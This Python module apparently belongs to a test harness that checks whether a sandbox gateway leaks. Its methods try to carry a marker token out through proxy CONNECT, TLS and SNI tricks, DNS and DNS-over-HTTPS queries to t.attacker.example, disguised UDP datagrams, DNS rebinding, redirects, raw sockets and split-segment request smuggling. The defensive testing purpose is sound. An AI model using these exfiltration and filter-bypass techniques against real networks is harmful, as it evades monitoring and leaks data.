"""How an attack is carried out. Each method takes the token and its arguments from the table, and returns what it got back."""

from __future__ import annotations

import base64
import contextlib
import socket
import ssl
import subprocess
import time
from collections.abc import Sequence
from typing import Any

from . import wire

DNS_TEXT = b"\0\0\x10\0\1"


class Attack:
    """The methods of the table, bound to the gateway of the session's class."""

    def __init__(self, gateway: str, token: str) -> None:
        self.gateway, self.token = gateway, token

    # -- streams -----------------------------------------------------------------------------------------------------

    def stream(
        self, dial: str, *, connect: str = "", head: str = "", tls: str | None = None, no_sni: bool = False, alpn: Sequence[str] = (), cut: str = "",
        version: str = "", early: bool = False, hello: str = "", before: str = "", http: str = "", send: str = "", h2: str = "", dot: str = "",
        doh: str = "", pieces: Sequence[str] = (), source_port: int = 0, second: str = "",
    ) -> str:  # fmt: skip
        """Dial, ask a proxy to CONNECT, speak TLS with a name, send a request: every step only where the table says so.

        `connect`: authority for CONNECT, `head`: its other headers. `early`: do not wait for the proxy's answer. `hello`: send a ClientHello
        made by hand and nothing else. `http`: host of a plain request. `send`: these bytes. `pieces`: in single segments. `second`: what
        follows after the first answer on the same connection.
        """
        with wire.dial(dial, self.gateway, source_port) as sock:
            if connect:
                sock.sendall(f"CONNECT {connect} HTTP/1.1\r\nHost: {connect}\r\n{head}\r\n".encode("latin-1"))
                if not early:
                    answer = sock.recv(4096)
                    if answer.split(b"\r\n")[0].split()[1:2] != [b"200"]:
                        return answer[:200].decode("latin-1")
            stream: Any = sock
            if before:
                sock.sendall(before.encode("latin-1"))
            if hello:
                sock.sendall(wire.hello(hello, str(tls), self.token))
                return self._read(sock)
            if tls is not None or no_sni:
                stream = wire.Tls(sock, None if no_sni else tls, alpn, cut, version, early)
            if http:
                send = f"GET /{self.token} HTTP/1.1\r\nHost: {http}\r\nConnection: close\r\n\r\n"
            for piece in pieces:
                stream.sendall(piece.encode("latin-1"))
                time.sleep(0.05)
            if h2:
                stream.sendall(wire.http2(h2, self.token))
            elif doh:
                stream.sendall(self._doh(doh).encode("latin-1"))
            elif dot:
                message = wire.query(f"{self.token}.{dot}", "TXT")
                stream.sendall(len(message).to_bytes(2, "big") + message)
            elif send:
                stream.sendall(send.encode("latin-1"))
            answer = self._read(stream)
            if second:
                stream.sendall(second.encode("latin-1"))
                answer += self._read(stream)
            return answer

    def _read(self, stream: Any) -> str:
        got = b""
        with contextlib.suppress(OSError, ssl.SSLError):
            while len(got) < 4096 and (data := stream.recv(4096)):
                got += data
                if b"SECRET" in got:
                    break
        return got.decode("latin-1")

    def _doh(self, form: str) -> str:
        form, host = form.split(" ")
        message = wire.query(f"{self.token}.t.attacker.example", "TXT")
        coded = base64.urlsafe_b64encode(message).rstrip(b"=").decode()
        if form == "get":
            return f"GET /dns-query?dns={coded} HTTP/1.1\r\nHost: {host}\r\nAccept: application/dns-message\r\nConnection: close\r\n\r\n"
        if form == "post":
            return (f"POST /dns-query HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/dns-message\r\nContent-Length: {len(message)}\r\n"
                    "Connection: close\r\n\r\n" + message.decode("latin-1"))  # fmt: skip
        return f"GET /resolve?name={self.token}.t.attacker.example&type=TXT HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"

    def reach(self, dial: str, send: str = "") -> str:
        """Open a connection where nobody has to say anything: that it opens at all is the leak."""
        with wire.dial(dial, self.gateway) as sock:
            with contextlib.suppress(OSError):
                sock.sendall((send or self.token).encode())
                sock.settimeout(0.5)
                return "CONNECTED " + sock.recv(200).decode("latin-1")
            return "CONNECTED"

    # -- datagrams and names -----------------------------------------------------------------------------------------

    def datagram(self, to: str, form: str = "token", source_port: int = 0) -> str:
        """One datagram: the token alone, or in the shape of a protocol."""
        host, _, port = to.rpartition(":")
        host = host.strip("[]")
        mark = self.token.encode()
        shapes = {
            "token": mark,
            "quic": b"\xc3\0\0\0\1\x0f" + mark + b"\0\0\x44\xd0" + bytes(1180),
            "quic-draft": b"\xc3\xff\0\0\x1d\x0f" + mark + b"\0" + bytes(1180),
            "quic-short": b"\x43" + mark + bytes(40),
            "gquic": b"\x0d" + mark[:8] + b"Q046" + b"\1" + mark + bytes(1200),
            "dtls": b"\x16\xfe\xfd" + bytes(8) + len(mark).to_bytes(2, "big") + mark,
            "stun": b"\0\1\0\x10\x21\x12\xa4\x42" + bytes(12) + b"\x80\x22\0\x0f" + mark + b"\0",
            "ntp": b"\x23" + bytes(39) + mark,
            "wireguard": b"\1\0\0\0" + mark + bytes(129),
            "dns": wire.query(f"{self.token}.t.attacker.example", "TXT"),
            "tftp": b"\0\1" + mark + b"\0octet\0",
            "snmp": b"\x30\x20\2\1\0\4\x0f" + mark,
            "ssdp": b"M-SEARCH * HTTP/1.1\r\nMAN: " + mark + b"\r\n\r\n",
            "large": mark + bytes(8000),
        }
        family = socket.AF_INET6 if ":" in host else socket.AF_INET
        with socket.socket(family, socket.SOCK_DGRAM) as sock:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            sock.settimeout(0.6)
            sock.bind(("::" if family == socket.AF_INET6 else "0.0.0.0", source_port))
            for _ in range(2):
                sock.sendto(shapes[form], (host, int(port)))
                with contextlib.suppress(TimeoutError):
                    return sock.recv(4096).decode("latin-1")
        return ""

    def dns(
        self, name: str, kind: str | int = "TXT", *, server: str = "", port: int = 53, tcp: bool = False, number: int = 1, flags: int = 0x0100,
        edns: int = 0, questions: Sequence[str] = (), trailing: bool = False,
    ) -> str:  # fmt: skip
        """Ask a resolver (the class's, where no other is named) something with the token in it."""
        extra, additional, count = b"", 0, 1
        if questions:
            count += len(questions)
            for one in questions:
                extra += wire.query(one, kind)[12:]
        if edns:
            data = self.token.encode()
            if edns == 8:  # client subnet: family, prefix lengths, an address; the token does not fit, so a port of it does
                data = b"\0\1\x20\0" + data
            extra, additional = extra + wire.option(edns, data), 1
        if trailing:
            extra += self.token.encode()
        message = wire.query(name, kind, klass=number, flags=flags, extra=extra, additional=additional, questions=count)
        return wire.exchange(message, server or self.gateway, port, tcp).decode("latin-1")

    def rebind(self, name: str, port: int = 0, way: str = "dns", kind: int = 1) -> str:
        """A listed name that leads inside. By the resolver and then directly, or left to the proxy to look up."""
        if way != "dns" and name.startswith("r-flip"):
            wire.lookup(name, self.gateway)  # what it says the first time is not what the proxy gets
        if way == "connect":
            return self.stream(f"{self.gateway}:3128", connect=f"{name}:{port}", tls=name if port == 443 else None, http=name)
        if way == "absolute":
            text = f"GET http://{name}:{port}/{self.token} HTTP/1.1\r\nHost: {name}:{port}\r\nConnection: close\r\n\r\n"
            return self.stream(f"{self.gateway}:3128", send=text)
        found = wire.lookup(name, self.gateway, kind)
        found += wire.lookup(name, self.gateway, kind)  # a name that changes its mind
        got = "".join(f"ADDRESS={address}\n" for address in found)
        for address in dict.fromkeys(found):
            with contextlib.suppress(OSError):
                target = f"[{address}]:{port}" if ":" in address else f"{address}:{port}"
                got += self.stream(target, tls=name if port == 443 else None, http=name)
        return got

    def redirect(self, url: str, code: int, target: str, way: str) -> str:
        """Ask a permitted host, which sends the client on, and go there as a client does."""
        coded = base64.urlsafe_b64encode(target.encode()).rstrip(b"=").decode()
        through = [] if way == "direct" else ["--proxy", f"http://{self.gateway}:3128"]
        return self.tool([
            "curl", "-sk", "-L", "--noproxy", "*" if way == "direct" else "none", *through, "--max-time", "4", "--location-trusted",
            f"{url}/redirect/{code}/{coded}/{self.token}",
        ])  # fmt: skip

    # -- programs ----------------------------------------------------------------------------------------------------

    def tool(self, argv: Sequence[str], environment: dict[str, str] | None = None) -> str:
        """A program as a user would start it, without proxy variables unless the table sets some."""
        base = {"PATH": "/usr/bin:/bin", "HOME": "/tmp", "LANG": "C.UTF-8", "GIT_TERMINAL_PROMPT": "0", "PYTHONPATH": "/egress"}
        try:
            done = subprocess.run(
                list(argv), env=base | (environment or {}), stdin=subprocess.DEVNULL, capture_output=True, timeout=6, check=False, cwd="/tmp"
            )
        except subprocess.TimeoutExpired as error:
            return (error.stdout or b"").decode("latin-1")
        return (done.stdout + done.stderr).decode("latin-1")[:8192]

    def raw_socket(self, family: int, kind: int, protocol: int, to: str) -> str:
        """A raw socket inside of the sandbox, where there should be none."""
        with socket.socket(family, kind, protocol) as sock:
            if family == socket.AF_PACKET:
                sock.bind(("eth0", 0))
                sock.send(b"\xff" * 6 + bytes(6) + b"\x88\xb5" + self.token.encode())
            else:
                sock.sendto(self.token.encode(), (to, 0))
        return ""

    def smuggle(self, dial: str, text: str, after: float = 0.0) -> str:
        """Bytes of a request as they are; `|` in the text is a pause, so that what follows comes in a segment of its own."""
        return self.stream(dial, pieces=text.split("|"))
